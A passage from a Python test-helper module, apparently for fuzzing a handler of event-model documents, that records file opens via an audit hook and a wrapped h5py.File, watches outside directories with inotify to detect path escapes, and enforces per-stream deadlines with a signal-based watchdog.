    def finish(self, run_timeout: float = 3600.0) -> None:
        """Close every run left open, as the worker does after ``run_timeout`` seconds of silence."""
        for run in list(self.started):
            self._deliver("stop", no_stop_document(run, run_timeout), run, synthetic=True)

    def _deliver(self, name, doc, run, *, synthetic) -> None:
        try:
            self.handle(name, doc)
        except Exception as e:
            if is_transient(e):
                self.stalls.append(f"{name}: {type(e).__name__}: {e}"[:500])
            else:
                self.dead.append(("handler-error", f"{type(e).__name__}: {e}", name))
        else:
            self.handled += 1
        if synthetic:
            self.started.discard(run)
            self.closed.add(run)
            self.keys.forget(run)
        elif name == "stop":
            self.started.discard(run)


# --- what got opened ----------------------------------------------------------------------------------------------

class OpenRecord:
    """Files opened while a test handles documents. Python-level opens come from an audit hook,
    HDF5 opens from a wrapped ``h5py.File``; :class:`Canaries` sees opens below both."""

    active: "OpenRecord | None" = None

    def __init__(self):
        self.python: list = []  # (absolute path, mode or flags)
        self.hdf5: list = []  # (real path, mode)

    def clear(self):
        self.python.clear()
        self.hdf5.clear()

    @contextmanager
    def recording(self):
        OpenRecord.active = self
        try:
            yield self
        finally:
            OpenRecord.active = None


def _audit(event, args):
    # runs for every audited event in the process: bail out early, and never raise
    if event != "open" or OpenRecord.active is None:
        return
    try:
        path = args[0]
        if isinstance(path, int):
            return
        path = os.fsdecode(path)
        if not os.path.isabs(path):
            path = os.path.join(_opened_from(), path)
        OpenRecord.active.python.append((os.path.abspath(path), args[1] if args[1] else args[2]))
    except Exception:
        pass


def _opened_from() -> str:
    """The directory a relative open is relative to. ``shutil.rmtree`` (a sink clearing a store) opens
    names relative to a directory descriptor the audit event does not carry; its frame knows the directory."""
    frame = sys._getframe(2)
    for _ in range(4):
        if frame is None:
            break
        if frame.f_code.co_name == "_rmtree_safe_fd" and isinstance(frame.f_locals.get("path"), (str, os.PathLike)):
            return os.fspath(frame.f_locals["path"])
        frame = frame.f_back
    return os.getcwd()


_hook_installed = False


def install_open_hooks(monkeypatch) -> None:
    """The audit hook (once per process: it cannot be removed) and an ``h5py.File`` that says what it opens."""
    global _hook_installed
    if not _hook_installed:
        sys.addaudithook(_audit)
        _hook_installed = True

    class RecordingFile(h5py.File):
        def __init__(self, name, mode="r", *args, **kwargs):
            record = OpenRecord.active
            if record is not None:
                try:
                    where = os.path.realpath(os.fsdecode(name))
                except (TypeError, ValueError):
                    where = repr(name)
                record.hdf5.append((where, mode))
            super().__init__(name, mode, *args, **kwargs)

    monkeypatch.setattr(h5py, "File", RecordingFile)


class Canaries:
    """inotify on the directories outside the root: any open or read there, by this process or another
    (the HDF5 library following a link, a Tiled server registering an asset), is an escape."""

    IN_ACCESS, IN_OPEN, IN_NONBLOCK = 0x001, 0x020, 0o4000

    def __init__(self, *dirs: Path):
        libc = ctypes.CDLL(ctypes.util.find_library("c") or None, use_errno=True)
        self.fd = libc.inotify_init1(self.IN_NONBLOCK)
        if self.fd < 0:
            raise OSError(ctypes.get_errno(), "inotify_init1 failed")
        self.names = {}
        for d in dirs:
            wd = libc.inotify_add_watch(self.fd, os.fsencode(d), self.IN_OPEN | self.IN_ACCESS)
            if wd < 0:
                raise OSError(ctypes.get_errno(), f"inotify_add_watch {d} failed")
            self.names[wd] = Path(d)

    def touched(self) -> list:
        """Paths opened or read since the last call."""
        out = []
        while True:
            try:
                buf = os.read(self.fd, 65536)
            except BlockingIOError:
                return out
            i = 0
            while i < len(buf):
                wd, mask, _, length = struct.unpack_from("iIII", buf, i)
                name = buf[i + 16:i + 16 + length].rstrip(b"\0").decode(errors="replace")
                out.append(str(self.names.get(wd, "?") / name) if name else str(self.names.get(wd, "?")))
                i += 16 + length

    def close(self):
        os.close(self.fd)


# --- no hangs -------------------------------------------------------------------------------------------------------

class Hang(BaseException):
    """Raised in the main thread when one stream takes longer than its deadline. A BaseException, so that
    no handler's ``except Exception`` can swallow it."""


class Watchdog:
    """One thread for the whole test: when a stream passes its deadline, it signals the main thread
    (SIGUSR1 interrupts a blocking open of a FIFO as well), whose handler raises :class:`Hang`."""

    def __init__(self):
        self.deadline = None
        self.fired = False
        self._stop = threading.Event()
        self._main = threading.main_thread().ident
        self._old = signal.signal(signal.SIGUSR1, self._raise)
        self._thread = threading.Thread(target=self._watch, daemon=True, name="fuzz-watchdog")
        self._thread.start()

    def _raise(self, signum, frame):
        raise Hang("a document stream took longer than its deadline")

    def _watch(self):
        while not self._stop.wait(0.25):
            d = self.deadline
            if d is not None and time.monotonic() > d and not self.fired:
                self.fired = True
                signal.pthread_kill(self._main, signal.SIGUSR1)

    @contextmanager
    def limit(self, seconds: float):
        self.fired = False
        self.deadline = time.monotonic() + seconds
        try:
            yield
        finally:
            self.deadline = None

    def close(self):
        self._stop.set()
        self._thread.join(2)
        signal.signal(signal.SIGUSR1, self._old)


def fresh_uids(docs) -> list:
    """The same documents with every uid replaced by a new one, links kept (for a catalogue that
    skips runs it already holds)."""
    mapping = {}
    for _, doc in docs:
        uid = doc.get("uid")
        if isinstance(uid, str) and "/" not in uid:
            mapping[uid] = str(uuid.uuid4())

    def swap(value):
        if isinstance(value, str):
            head, sep, tail = value.partition("/")
            return mapping[head] + sep + tail if head in mapping else value
        if isinstance(value, dict):
            return {k: swap(v) for k, v in value.items()}
        if isinstance(value, list):
            return [swap(v) for v in value]
        return value

    return [(name, {k: swap(v) if k in ("uid", "run_start", "descriptor", "stream_resource") else v
                    for k, v in doc.items()}) for name, doc in docs]
